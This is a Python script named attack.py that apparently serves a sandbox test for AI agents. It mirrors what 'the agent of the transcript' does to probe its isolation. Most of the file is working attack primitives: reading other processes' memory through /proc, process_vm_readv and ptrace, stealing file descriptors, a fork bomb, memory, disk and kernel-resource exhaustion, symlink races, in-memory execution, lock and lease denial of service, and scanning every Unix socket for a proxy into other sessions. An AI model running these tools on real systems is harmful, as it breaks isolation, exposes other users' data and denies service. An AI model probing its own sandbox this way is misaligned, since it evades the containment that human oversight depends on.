"""What the agent of the transcript does beside shell commands and the probes in C: `python3 attack.py NAME ARGUMENT...`.

Says `NAME: OK ...` when it got what it wanted, `NAME: WHY` otherwise.
"""
import base64
import ctypes
import errno
import fcntl
import mmap
import os
import re
import signal
import socket
import struct
import subprocess
import sys
import time

libc = ctypes.CDLL(None, use_errno=True)


def call(number, *arguments):
    result = libc.syscall(ctypes.c_long(number), *[ctypes.c_long(one) if isinstance(one, int) else one for one in arguments])
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def raw(number, *arguments):
    """A call by number."""
    call(int(number), *[int(one, 0) for one in arguments])


def clone3_user():
    """A process in a user namespace of its own."""
    child = call(435, ctypes.c_char_p(struct.pack("11Q", 0x10000000, 0, 0, 0, 17, 0, 0, 0, 0, 0, 0)), 88)
    if child == 0:
        os._exit(0)


def proxy():
    """The session's proxy as its environment names it, or nothing where there is none."""
    found = re.match(r"http://(?:([^@]*)@)?([^:/]+):(\d+)", os.environ.get("HTTP_PROXY") or os.environ.get("http_proxy") or "")
    return found and (found.group(2), int(found.group(3)), found.group(1))


def authorization(via):
    """The header line that a proxy wants which names a user in its address."""
    return f"Proxy-Authorization: Basic {base64.b64encode(via[2].encode()).decode()}\r\n" if via[2] else ""


def ask(target, *chunks):
    """Bytes (with \\r\\n etc. written out) to the proxy one after the other, or straight to TARGET where there is none."""
    via = proxy()
    host, port = (via[0], via[1]) if via else target.rsplit(":", 1)
    one = socket.create_connection((host, int(port)), 8)
    one.settimeout(8)
    said = b""
    for chunk in chunks:
        data = chunk.encode("latin1").decode("unicode_escape").encode("latin1")
        if via is None and data.startswith(b"CONNECT "):
            data = data.partition(b"\r\n\r\n")[2]
            if not data:
                continue
        if via and not said:
            data = data.replace(b"\r\n", b"\r\n" + authorization(via).encode(), 1)
        one.sendall(data)
        try:
            said += one.recv(65536)
        except OSError:
            pass
    return said.decode("latin1", "replace")


def hello(target, name, authority):
    """A TLS hello for NAME through a tunnel to AUTHORITY."""
    import ssl

    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    try:
        context.wrap_bio(incoming, outgoing, server_hostname=name).do_handshake()
    except ssl.SSLWantReadError:
        pass
    via = proxy()
    host, port = (via[0], via[1]) if via else target.rsplit(":", 1)
    one = socket.create_connection((host, int(port)), 8)
    one.settimeout(8)
    if via:
        one.sendall(f"CONNECT {authority} HTTP/1.1\r\nHost: {authority}\r\n{authorization(via)}\r\n".encode())
        if b" 200 " not in one.recv(4096):
            raise OSError(errno.EACCES, "refused")
    one.sendall(outgoing.read())
    try:
        return one.recv(100).decode("latin1")
    except OSError:
        return "sent"


def udp(address, port, text):
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    socket.socket(family, socket.SOCK_DGRAM).sendto(text.encode(), (address, int(port)))


def tcp(address, port, text):
    one = socket.create_connection((address, int(port)), 8)
    one.sendall(text.encode())
    return one.recv(4096).decode("latin1")


def unix(kind, address, text):
    one = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM if kind == "datagram" else socket.SOCK_STREAM)
    name = "\0" + address[1:] if address.startswith("@") else address
    one.settimeout(8)
    one.connect(name)
    one.sendall(text.encode())
    return "sent" if kind == "datagram" else one.recv(4096).decode("latin1")


def send_descriptor(address, path, text):
    """A descriptor of PATH with TEXT over a socket."""
    one = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    one.connect(address)
    socket.send_fds(one, [text.encode()], [os.open(path, os.O_RDONLY)])


def memory(pid, address, length):
    """Another process's memory, through /proc."""
    with open(f"/proc/{pid}/mem", "rb", 0) as file:
        file.seek(int(address))
        return file.read(int(length)).decode("latin1")


def vm_read(pid, address, length):
    buffer = ctypes.create_string_buffer(int(length))
    local = (ctypes.c_size_t * 2)(ctypes.addressof(buffer), int(length))
    remote = (ctypes.c_size_t * 2)(int(address), int(length))
    call(310, int(pid), local, 1, remote, 1, 0)
    return buffer.raw.decode("latin1")


def peek(pid, address, length):
    """The same word by word, as a debugger."""
    libc.ptrace.restype = ctypes.c_long
    if libc.ptrace(16, ctypes.c_long(int(pid)), None, None) != 0:
        raise OSError(ctypes.get_errno(), "attach")
    os.waitpid(int(pid), 0)
    words = b"".join(
        struct.pack("q", libc.ptrace(2, ctypes.c_long(int(pid)), ctypes.c_void_p(int(address) + at), None))
        for at in range(0, int(length), 8)
    )
    libc.ptrace(17, ctypes.c_long(int(pid)), None, None)
    return words.decode("latin1")


def take_descriptor(pid, number):
    """A descriptor of another process by pidfd_getfd."""
    pidfd = call(434, int(pid), 0)
    return os.pread(call(438, pidfd, int(number), 0), 4096, 0).decode("latin1")


def message_queue(name, text):
    """A POSIX message queue of the host."""
    attributes = struct.pack("8q", 0, 1, 64, 0, 0, 0, 0, 0)
    number = call(240, ctypes.c_char_p(name.encode()), os.O_WRONLY, 0o600, ctypes.c_char_p(attributes))
    call(242, number, ctypes.c_char_p(text.encode()), len(text), 0, None)


def shared_memory(key):
    """A System V segment of the host."""
    libc.shmat.restype = ctypes.c_void_p
    number = libc.shmget(int(key), 0, 0)
    if number < 0:
        raise OSError(ctypes.get_errno(), "shmget")
    return ctypes.string_at(libc.shmat(number, None, 0o10000)).decode("latin1")


def lease(path):
    """Holds up whoever opens PATH for writing."""
    fd = os.open(path, os.O_RDONLY)
    fcntl.fcntl(fd, fcntl.F_SETLEASE, fcntl.F_RDLCK)
    signal.signal(signal.SIGIO, signal.SIG_IGN)
    hold()


def lock(path):
    """Takes the lock a program of the person wants."""
    fcntl.flock(os.open(path, os.O_RDONLY), fcntl.LOCK_EX | fcntl.LOCK_NB)
    hold()


def hold(take_more=None):
    """Says that it holds what it took, and stays while the transcript looks from outside. What others give back it takes too."""
    print("holding", flush=True)
    until = time.monotonic() + 20
    while time.monotonic() < until and not os.path.exists("steps/released"):
        try:
            if take_more is not None:
                take_more()
        except OSError:
            pass
        time.sleep(0.005)


def take_inotify():
    taken = []
    try:
        while len(taken) < 5000:
            taken.append(call(294, 0))
    except OSError:
        pass
    hold(lambda: taken.append(call(294, 0)))


def take_signals():
    # Queued for ourselves and blocked: each counts against the user.
    signal.pthread_sigmask(signal.SIG_BLOCK, [40])
    queue = lambda: call(129, os.getpid(), 40, (ctypes.c_int * 32)(40, 0, -1))
    for _ in range(200_000):
        try:
            queue()
        except OSError:
            break
    hold(queue)


def take_message_queues():
    for at in range(1000):
        name = ctypes.c_char_p(f"take-{os.getpid()}-{at}".encode())
        try:
            call(240, name, os.O_CREAT | os.O_RDWR, 0o600, ctypes.c_char_p(struct.pack("8q", 0, 10, 8192, 0, 0, 0, 0, 0)))
        except OSError:
            break
        # It lives on with its descriptor and ends with us.
        call(241, name)
    hold()


def watch_opens(folder, seconds):
    """Which files of FOLDER somebody outside opens."""
    fd = call(294, 0)
    call(254, fd, ctypes.c_char_p(folder.encode()), 0x20)
    print("holding", flush=True)
    os.set_blocking(fd, False)
    until, names = time.monotonic() + float(seconds), []
    while time.monotonic() < until and not names:
        time.sleep(0.1)
        try:
            names += [part.decode() for part in re.findall(rb"[A-Za-z0-9_.-]{4,}", os.read(fd, 65536))]
        except BlockingIOError:
            pass
    return " ".join(names)


def tmpfile_link(folder, name, mode):
    """A file without a name gets one, with MODE."""
    fd = os.open(folder, os.O_TMPFILE | os.O_RDWR, int(mode, 8))
    os.write(fd, b"#!/bin/sh\nid\n")
    call(265, -100, ctypes.c_char_p(f"/proc/self/fd/{fd}".encode()), -100, ctypes.c_char_p(f"{folder}/{name}".encode()), 0x400)


def map_write(path, at, text):
    """Bytes of a file changed through a shared map."""
    with open(path, "r+b") as file:
        with mmap.mmap(file.fileno(), 0) as view:
            view[int(at) : int(at) + len(text)] = text.encode()


def memfd_run(path):
    """A program executed from memory, with no file anywhere."""
    fd = os.memfd_create("x", 0)
    with open(path, "rb") as file:
        os.write(fd, file.read())
    os.execve(fd, ["x", "native"], {})


def bomb(count, *_):
    made = 0
    try:
        for _ in range(int(count)):
            if os.fork() == 0:
                time.sleep(30)
                os._exit(0)
            made += 1
    except OSError:
        pass
    print(f"made {made}", flush=True)
    hold()


def eat(mebibytes, *_):
    """Memory that is really used."""
    kept = []
    for _ in range(int(mebibytes) // 64):
        kept.append(bytearray(os.urandom(4096)) * 16384)
    hold()


def fill(path, mebibytes):
    with open(path, "wb") as file:
        for _ in range(int(mebibytes)):
            file.write(b"x" * 1048576)
    hold()


def race(link, good, bad, seconds):
    """Swaps a link between two targets for a while."""
    until = time.monotonic() + float(seconds)
    while time.monotonic() < until:
        for target in (good, bad):
            os.symlink(target, f"{link}.new")
            os.rename(f"{link}.new", link)


def rename_exchange(a, b):
    call(316, -100, ctypes.c_char_p(a.encode()), -100, ctypes.c_char_p(b.encode()), 2)


def setattr_path(path, name, value):
    os.setxattr(path, name, value.encode())


def sockets():
    """Connects to every socket below the folders and asks each, as a proxy, for what another session may reach."""
    for base in sys.argv[3:]:
        for folder, _, names in os.walk(base):
            for name in names:
                path = os.path.join(folder, name)
                try:
                    one = socket.socket(socket.AF_UNIX)
                    one.settimeout(3)
                    one.connect(path)
                    host = sys.argv[2].split("/")[0]
                    one.sendall(f"GET http://{sys.argv[2]} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n".encode())
                    print(path, one.recv(4096).decode("latin1"), flush=True)
                except OSError:
                    pass


name, *arguments = sys.argv[1:]
try:
    result = sockets() if name == "sockets" else globals()[name.replace("-", "_")](*arguments)
    print(f"{name}: OK {'' if result is None else result}", flush=True)
except OSError as error:
    print(f"{name}: {errno.errorcode.get(error.errno, error)}", flush=True)
